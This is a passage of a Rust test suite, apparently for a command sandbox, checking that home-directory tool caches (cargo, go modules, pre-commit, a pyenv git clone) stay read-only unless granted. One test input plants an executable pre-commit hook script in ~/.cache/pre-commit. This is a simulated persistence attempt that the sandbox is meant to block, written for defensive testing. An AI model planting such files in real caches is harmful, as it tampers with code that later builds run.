            "go/pkg/mod/example.com/x@v1/x.go".to_owned(),
            vec!["go/pkg/mod"],
        ),
        (
            "mkdir -p ~/.cache/pre-commit/repo0 && echo 'exit 0' > ~/.cache/pre-commit/repo0/hook.sh".to_owned(),
            ".cache/pre-commit/repo0/hook.sh".to_owned(),
            vec![".cache/pre-commit"],
        ),
    ] {
        let fx = fixture();
        let records = fx.records();
        let inside = run_in(&fx, &fx.home, &fx.home, &records.opts(), &script);
        inside.assert_failed_if_guarded();
        assert_refused_or_swept(&records, &inside.run, &fx.home, &suffixes);
        assert!(
            !fx.home.join(&file).exists(),
            "~/{file} planted\n{}",
            inside.run.describe()
        );
    }
    // Already there: read-only on every backend.
    let fx = fixture();
    mkdir(&fx.home.join(".cargo/registry/src"));
    let inside = run_in(&fx, &fx.home, &fx.home, &[], &plant);
    inside.assert_failed();
    assert!(!planted(&fx).exists(), "{}", inside.run.describe());
    // Control: granted by name, the cache is writable (a build filling it works).
    let inside = run_in(
        &fx,
        &fx.home,
        &fx.home,
        &["--allow-write", "~/.cargo/registry"],
        &plant,
    );
    inside.assert_ok();
    assert!(planted(&fx).exists(), "control: the grant");
}

/// A home holding a git clone of a tool protected whole (`~/.pyenv`, installed by
/// `git clone`): with the home as the workspace, runs start (every one failed at set-up: the
/// init opened the clone's `.git/config` for writing below `~/.pyenv`'s read-only bind, EROFS),
/// and the clone stays read-only, its config included. Control: the same clone elsewhere in
/// the home keeps a writable worktree (the read-only is `~/.pyenv`'s, not the clone's).
#[test]
fn a_git_clone_protected_whole_in_the_home_does_not_stop_the_run() {
    let fx = fixture();
    let home = fx.home.clone();
    for dir in [".pyenv", "proj"] {
        let repo = home.join(dir);
        mkdir(&repo);
        let init = fx.git_host(&["init", "-q", repo.to_str().expect("utf-8")]);
        init.assert_success();
    }
    let out = run_in(
        &fx,
        &home,
        &home,
        &[],
        "echo edited >> proj/file && echo proj-ok; \
         echo x >> .pyenv/.git/config || echo config-refused; \
         echo x > .pyenv/version || echo pyenv-refused",
    );
    out.assert_shows("proj-ok")
        .assert_shows("config-refused")
        .assert_shows("pyenv-refused");
    assert_eq!(
        read_text(&home.join("proj/file")).as_deref(),
        Some("edited\n")
    );
    assert!(!read_text(&home.join(".pyenv/.git/config"))
        .unwrap_or_default()
        .ends_with("x\n"));
    assert!(read_text(&home.join(".pyenv/version")).is_none());
}
